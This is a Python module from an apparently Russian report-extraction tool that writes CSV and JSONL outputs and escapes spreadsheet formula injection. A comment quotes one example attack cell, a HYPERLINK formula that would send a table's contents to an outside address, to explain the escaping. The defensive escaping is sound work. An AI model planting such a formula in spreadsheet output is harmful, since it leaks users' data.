"""Plain-file outputs: reports.csv, figures.csv, warnings.csv, regions.csv,
completeness.csv and reports.jsonl.

Column names and order are a contract (README «Output contract»). Values are written
plainly: integers without separators, decimals with a point — or, in the Excel dialect,
with a comma, as Russian Excel reads «16.7» as a date.
"""

from __future__ import annotations

import csv
import math
import re
from collections.abc import Iterable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from pydantic import BaseModel, Field

from extractor.aggregate import Aggregation, Method, RegionRow, rules
from extractor.catalogue import catalogue
from extractor.completeness import Completeness
from extractor.output import atomic_text
from extractor.records import Problem, ReportRecord


class CsvDialect(BaseModel, frozen=True):
    encoding: str = "utf-8"
    delimiter: str = ","
    decimal: str = "."


PLAIN = CsvDialect()
# Russian Excel opens a CSV by double click only when it starts with a BOM, is split on
# «;» (its list separator) and writes decimals with a comma.
EXCEL = CsvDialect(encoding="utf-8-sig", delimiter=";", decimal=",")


# ------------------------------------------------------------------ formula injection
#
# Report text and file names are untrusted, and a spreadsheet evaluates a CSV cell that
# starts with «=», «+», «-» or «@» as a formula (tab and CR too, by the OWASP advice: some
# programs drop them and evaluate what follows; full-width forms, as some locales do):
# `=HYPERLINK("http://…/?d="&A2, …)` in a report would become a working link that sends
# the table away. Such a cell is written with a leading apostrophe, which spreadsheets
# show as text. A cell that already starts with an apostrophe gets one more, so the
# escape is undone exactly (`unescape_cell`) when the tool reads its own CSV back.
# Numbers the tool writes itself («-3», «16,7») stay numbers.
# (defusedcsv does the escaping but not the exact undo, and would escape «-3».)
_FORMULA_START = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
_PLAIN_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def escape_cell(value: object) -> object:
    """A CSV cell a spreadsheet shows as text, never evaluates (see above)."""
    if not isinstance(value, str) or not value or _PLAIN_NUMBER.fullmatch(value):
        return value
    first = value.lstrip(" \u00a0")[:1]
    if first in _FORMULA_START or value[0] == "'":
        return "'" + value
    return value


def unescape_cell(text: str) -> str:
    """The cell's text as it was before `escape_cell` (also for corrections.csv, often a
    copy of our own files)."""
    return text[1:] if text.startswith("'") else text


class _SafeWriter:
    """csv.writer whose every cell goes through `escape_cell`."""

    def __init__(self, writer: Any) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[object]) -> None:
        self._writer.writerow([escape_cell(c) for c in row])


@contextmanager
def csv_rows(path: Path, dialect: CsvDialect) -> Iterator[_SafeWriter]:
    """A csv writer on a file written atomically in `dialect`, cells escaped."""
    with atomic_text(path, encoding=dialect.encoding, newline="") as fh:
        yield _SafeWriter(csv.writer(fh, delimiter=dialect.delimiter))


DELIMITERS = (",", ";", "\t")


def sniff_delimiter(first_line: str, required: Sequence[str]) -> str:
    """Comma, semicolon or TAB: the one that splits a header line into the most of the
    `required` columns (then into the most columns). Our files use «,» (or «;» with
    --excel), Excel's «CSV» «;» in a Russian locale, its «Unicode text» TAB."""

    def fit(delimiter: str) -> tuple[int, int]:
        cells = [c.strip().lower() for c in next(csv.reader([first_line], delimiter=delimiter))]
        return sum(c in cells for c in required), len(cells)

    return max(DELIMITERS, key=fit)


def read_csv(path: Path, required: Sequence[str] = ("file",)) -> list[dict[str, str]]:
    """Rows of a CSV this tool wrote, in either dialect (plain, or `--excel`: BOM and
    «;»), with the escape of formula-like cells undone. Raises ValueError (with the
    reason in Russian) for a file that is not such a CSV: another encoding, or a header
    without the `required` columns."""
    try:
        text = path.read_text(encoding="utf-8-sig")  # utf-8-sig: BOM or not
    except UnicodeDecodeError as exc:
        raise ValueError(f"{path.name} не в кодировке UTF-8 (пересохранён в Excel?)") from exc
    first = text.split("\n", 1)[0].rstrip("\r")
    reader = csv.DictReader(text.splitlines(True), delimiter=sniff_delimiter(first, required))
    missing = [c for c in required if c not in (reader.fieldnames or [])]
    if missing:
        raise ValueError(f"в {path.name} нет столбцов: {', '.join(missing)}")
    return [{k: unescape_cell(v or "") for k, v in row.items() if k is not None} for row in reader]


# The first ten columns are the contract of the spec; the last three help a reviewer:
# the number exactly as written, whether it was approximate («около 300», a range), and
# where it stands in the original file in words («стр. 3, табл. 1, строка 4»); and
# `corrected` = yes for a value a person set in corrections.csv (rule `person`, the
# reviewer's note as quote, no position in the file).
FIGURE_COLUMNS = (
    "file",
    "key",
    "value",
    "unit",
    "page",
    "block",
    "start",
    "end",
    "quote",
    "rule",
    "written",
    "approx",
    "location",
    "corrected",
)


def format_value(value: float | int | None, decimal: str = ".") -> str:
    # NaN or infinity never passes the value check (extractor.validate.value), which
    # keeps such a figure out of the record with an error; should one reach a writer all
    # the same, it is an empty cell, not «inf» that a spreadsheet would take for a word.
    if value is None or not math.isfinite(value):
        return ""
    if float(value).is_integer():
        return str(int(value))
    text = f"{value:.2f}".rstrip("0").rstrip(".")
    if text == "-0":  # -0.001 rounds to zero, not to «-0»
        text = "0"
    return text.replace(".", decimal)


def _cell(value: object, dialect: CsvDialect) -> object:
    if isinstance(value, float | int) and not isinstance(value, bool):
        return format_value(value, dialect.decimal)
    return "" if value is None else value


def report_columns() -> list[str]:
    # `corrected` lists the keys a person set or removed in corrections.csv.
    return [
        "file",
        "municipality",
        "region",
        "year",
        *catalogue().ordered_keys(),
        "warnings",
        "corrected",
    ]


WARNING_COLUMNS = ("file", "severity", "code", "key", "message", "quote")


def warning_codes(problems: Sequence[Problem]) -> dict[str, list[str]]:
    """file → its warning codes («figure.conflict[coverage_pct]»), each once."""
    warnings: dict[str, list[str]] = {}
    for p in problems:
        code = f"{p.code}[{p.key}]" if p.key else p.code
        codes = warnings.setdefault(p.file, [])
        if code not in codes:
            codes.append(code)
    return warnings


def write_reports(
    path: Path,
    records: Sequence[ReportRecord],
    problems: Sequence[Problem],
    dialect: CsvDialect = PLAIN,
) -> None:
    # The row's warnings column lists codes only; warnings.csv has the words and quotes.
    warnings = warning_codes(problems)
    cols = report_columns()
    with csv_rows(path, dialect) as w:
        w.writerow(cols)
        for r in records:
            values = {f.key: format_value(f.value, dialect.decimal) for f in r.figures}
            w.writerow(
                [
                    r.file,
                    r.municipality or "",
                    r.region or "",
                    r.year or "",
                    *(values.get(k, "") for k in catalogue().ordered_keys()),
                    "; ".join(warnings.get(r.file, [])),
                    "; ".join(r.corrected),
                ]
            )


def write_figures(path: Path, records: Sequence[ReportRecord], dialect: CsvDialect = PLAIN) -> None:
    with csv_rows(path, dialect) as w:
        w.writerow(FIGURE_COLUMNS)
        for r in records:
            # a hedged value is evidence (marked approximate), never in reports.csv
            for f in [*r.figures, *r.approximate]:
                p = f.provenance
                placed = not f.corrected  # a person's value has no position in the file
                w.writerow(
                    [
                        r.file,
                        f.key,
                        format_value(f.value, dialect.decimal),
                        f.unit,
                        p.location.page if p.location.page is not None else "",
                        p.block if placed else "",
                        p.start if placed else "",
                        p.end if placed else "",
                        p.quote,
                        p.rule,
                        f.written,
                        "yes" if f.approx else "",
                        p.location.describe(),
                        "yes" if f.corrected else "",
                    ]
                )


def ordered_problems(problems: Sequence[Problem]) -> list[Problem]:
    """Worst first, then by file, code and key."""
    return sorted(problems, key=lambda p: (p.severity.rank, p.file, p.code, p.key or ""))


def write_warnings(path: Path, problems: Sequence[Problem], dialect: CsvDialect = PLAIN) -> None:
    """One row per warning, worst first; several quotes are one per line
    (table rows already use « | » between cells)."""
    with csv_rows(path, dialect) as w:
        w.writerow(WARNING_COLUMNS)
        for p in ordered_problems(problems):
            w.writerow([p.file, p.severity.value, p.code, p.key or "", p.message, p.quote_text])


# ------------------------------------------------------------------ regional totals

REGION_HEAD = (
    "region",
    "year",
    "reports",
    "municipalities_expected",
    "municipalities_reported",
    "municipalities_missing",
)


def region_columns() -> list[str]:
    """regions.csv columns: the head, then for each aggregated key in catalogue order
    KEY, KEY_n, KEY_change (sums); KEY, KEY_n, KEY_base, KEY_change (shares);
    KEY_min, KEY_max, KEY_n (ranges)."""
    cols = list(REGION_HEAD)
    for key, method in rules().aggregated():
        if method is Method.sum:
            cols += [key, f"{key}_n", f"{key}_change"]
        elif method is Method.share:
            cols += [key, f"{key}_n", f"{key}_base", f"{key}_change"]
        else:
            cols += [f"{key}_min", f"{key}_max", f"{key}_n"]
    return cols


def region_cells(row: RegionRow) -> dict[str, int | float | str | None]:
    """column → value of one region row (None: empty)."""
    c = row.completeness
    cells: dict[str, int | float | str | None] = {
        "region": row.region,
        "year": row.year,
        "reports": len(row.files),
        "municipalities_expected": c.expected,
        "municipalities_reported": c.reported if c.expected is not None else None,
        "municipalities_missing": len(c.missing) if c.expected is not None else None,
    }
    for v in row.values:
        if v.method is Method.range:
            cells[f"{v.key}_min"] = v.low
            cells[f"{v.key}_max"] = v.high
        else:
            cells[v.key] = v.value
            cells[f"{v.key}_change"] = v.change
        if v.method is Method.share:
            cells[f"{v.key}_base"] = v.base
        cells[f"{v.key}_n"] = v.n
    return cells


def write_regions(path: Path, aggregation: Aggregation, dialect: CsvDialect = PLAIN) -> None:
    cols = region_columns()
    with csv_rows(path, dialect) as w:
        w.writerow(cols)
        for row in aggregation.regions:
            cells = region_cells(row)
            w.writerow([_cell(cells.get(c), dialect) for c in cols])


COMPLETENESS_COLUMNS = (
    "region",
    "year",
    "municipalities_expected",
    "municipalities_reported",
    "municipalities_missing",
    "missing_names",
    "reports",
    "unmatched_files",
)


def completeness_cells(c: Completeness) -> list[int | str | None]:
    known = c.expected is not None
    return [
        c.region,
        c.year,
        c.expected,
        c.reported if known else None,
        len(c.missing) if known else None,
        "; ".join(c.missing),
        c.reports,
        "; ".join(c.unmatched),
    ]


def write_completeness(path: Path, aggregation: Aggregation, dialect: CsvDialect = PLAIN) -> None:
    with csv_rows(path, dialect) as w:
        w.writerow(COMPLETENESS_COLUMNS)
        for row in aggregation.regions:
            w.writerow([_cell(v, dialect) for v in completeness_cells(row.completeness)])


class ValidatedReport(ReportRecord):
    """A report as reports.jsonl holds it: the record with its provenance and warnings."""

    problems: list[Problem] = Field(default_factory=list)


def write_reports_jsonl(
    path: Path, records: Sequence[ReportRecord], problems: Sequence[Problem]
) -> None:
    by_file: dict[str, list[Problem]] = {}
    for p in ordered_problems(problems):
        by_file.setdefault(p.file, []).append(p)
    with atomic_text(path) as fh:
        for r in records:
            out = ValidatedReport(**r.model_dump(), problems=by_file.get(r.file, []))
            fh.write(out.model_dump_json(exclude_none=True))
            fh.write("\n")
